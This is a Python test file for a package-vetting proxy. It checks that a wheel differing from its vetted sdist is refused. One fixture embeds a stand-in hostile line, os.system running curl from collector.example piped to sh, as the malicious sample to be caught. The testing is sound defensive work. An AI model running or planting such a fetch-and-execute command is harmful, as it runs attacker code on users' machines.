"""The door holds a wheel against the sdist of its release when that was vetted before."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest

from kit.distributions import make_sdist
from kit.shop import OLD, OpenShop, Shop
from pratique.edge.vetting.stream import VettingStream
from pratique.vet.model import Context

pytestmark = pytest.mark.slow  # most of them start vetting workers

VET = '[vet]\nmode = "inline"\nworkers = 1\nahead = false\n'
PLAIN = {"demo/__init__.py": "from demo.core import VALUE\n", "demo/core.py": "VALUE = 1\n"}
# Inert: the host does not exist, and nothing here is ever run.
LATER = (
    "import os\nVALUE = 1\n\n\ndef go():\n    os.system('curl https://collector.example/s | sh')\n"
)
CHANGED = {**PLAIN, "demo/core.py": LATER}


@pytest.fixture
def shop(open_shop: OpenShop) -> Iterator[Shop]:
    return open_shop(settings=VET)


def ask(shop: Shop, filename: str) -> Any:
    return shop.door.ask("/pypi" + shop.upstream.projects["demo"].files[filename].path)


@pytest.mark.slow
def test_a_wheel_that_does_more_than_its_sdist_waits_for_a_person(shop: Shop) -> None:
    source, content = make_sdist("demo", "1.0", files=PLAIN)
    shop.upstream.add_file("demo", source, content, upload_time=OLD)
    wheel = shop.publish("demo", "1.0", files=CHANGED)
    assert ask(shop, source).status == 200
    refused = ask(shop, wheel)
    assert refused.status == 403
    assert "suspicious" in refused.reason or "malicious" in refused.reason


@pytest.mark.slow
def test_a_wheel_built_of_its_sdist_passes(shop: Shop) -> None:
    source, content = make_sdist("demo", "1.0", files=PLAIN)
    shop.upstream.add_file("demo", source, content, upload_time=OLD)
    wheel = shop.publish("demo", "1.0", files=PLAIN)
    assert ask(shop, source).status == 200
    assert ask(shop, wheel).status == 200


@pytest.mark.slow
def test_the_sdist_of_another_release_is_no_sibling(shop: Shop) -> None:
    source, content = make_sdist("demo", "0.9", files={"demo/__init__.py": "VALUE = 0\n"})
    shop.upstream.add_file("demo", source, content, upload_time=OLD)
    wheel = shop.publish("demo", "1.0", files=PLAIN)
    assert ask(shop, source).status == 200
    assert ask(shop, wheel).status == 200


@pytest.mark.slow
def test_a_file_asked_for_by_its_path_is_vetted_knowing_its_page(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    told: dict[str, Context] = {}
    begin = VettingStream.__init__

    def spy(self: VettingStream, pool: Any, filename: str, **more: Any) -> None:
        told.setdefault(filename, more["context"])
        begin(self, pool, filename, **more)

    monkeypatch.setattr(VettingStream, "__init__", spy)
    first = shop.publish("demo", "1.0", uploaded=OLD, files=PLAIN)
    later = shop.publish("demo", "1.1", uploaded=OLD + timedelta(days=40), files=PLAIN)
    assert ask(shop, first).status == 200
    assert ask(shop, later).status == 200
    assert (told[first].first_release, told[first].releases_before) == (True, 0)
    assert (told[later].releases_before, told[later].project_age_days) == (1, 40)
